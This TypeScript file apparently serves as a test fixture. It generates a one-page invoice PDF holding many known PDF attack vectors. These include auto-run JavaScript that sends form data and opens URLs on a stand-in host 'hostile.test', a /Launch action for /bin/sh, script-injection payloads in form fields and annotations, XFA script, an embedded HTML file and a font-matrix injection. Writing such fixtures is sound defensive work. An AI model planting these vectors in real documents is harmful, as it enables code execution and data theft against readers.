/** One page of an invoice with every known PDF attack: scripts, programs, addresses, files and a malicious font. */
const objects = (strange: string): string[] => [
  `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /AcroForm 8 0 R
    /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(x.html) 10 0 R] >> >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O 5 0 R /C 7 0 R >> /Annots [6 0 R 9 0 R 12 0 R]
    /Resources << /Font << /F 13 0 R /G 14 0 R >> >> >>`,
  streamOf(
    [
      ['Faktura', 780],
      ['Cislo faktury: 20260001', 760],
      [strange, 740],
      ['Datum vystaveni: 5.3.2026', 720],
    ]
      .map(([text, y]) => `BT /F 10 Tf 50 ${y} Td (${escaped(String(text))}) Tj ET`)
      .concat('BT /G 10 Tf 50 600 Td (A) Tj ET')
      .join('\n'),
  ),
  `<< /S /JavaScript /JS (app.alert\\("hostile"\\); app.launchURL\\("https://hostile.test/js"\\); this.submitForm\\("https://hostile.test/form"\\);) >>`,
  '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:window.hostile=1) >> >>',
  '<< /S /Launch /F (/bin/sh) /Next << /S /URI /URI (https://hostile.test/launch) >> >>',
  '<< /Fields [9 0 R] /XFA 11 0 R /NeedAppearances true >>',
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=window.hostile=1>) /V (<img src=x onerror=window.hostile=1>)
    /Rect [50 500 300 520] /AA << /K 5 0 R /C 5 0 R /F 5 0 R >> >>`,
  '<< /Type /Filespec /F (x.html) /UF (x.html) /EF << /F 15 0 R >> >>',
  streamOf(
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://hostile.test/xfa")</script></event></subform></template></xdp:xdp>',
  ),
  '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 10 0 R /Contents (<script>window.hostile=1</script>) >>',
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  // renderers once inserted the numbers of this matrix into a function unescaped
  `<< /Type /Font /Subtype /Type1 /BaseFont /Harm /FontMatrix [0.001 0 0 0.001 0 (0\\); window.hostile=1; //)]
    /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor << /Type /FontDescriptor /FontName /Harm /Flags 4 /FontBBox [0 0 500 500]
    /ItalicAngle 0 /Ascent 500 /Descent 0 /CapHeight 500 /StemV 80 >> >>`,
  streamOf('<script>window.hostile=1</script>'),
];

const streamOf = (text: string): string => `<< /Length ${text.length} >> stream\n${text}\nendstream`;
const escaped = (text: string): string => text.replaceAll(/[\\()]/g, String.raw`\$&`);

/** Creates the PDF; `strange` is a line of its text. */
export function hostilePdf(strange: string): Uint8Array {
  const body = objects(strange)
    .map((each, index) => `${index + 1} 0 obj ${each} endobj`)
    .join('\n');
  return Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF`, 'latin1');
}
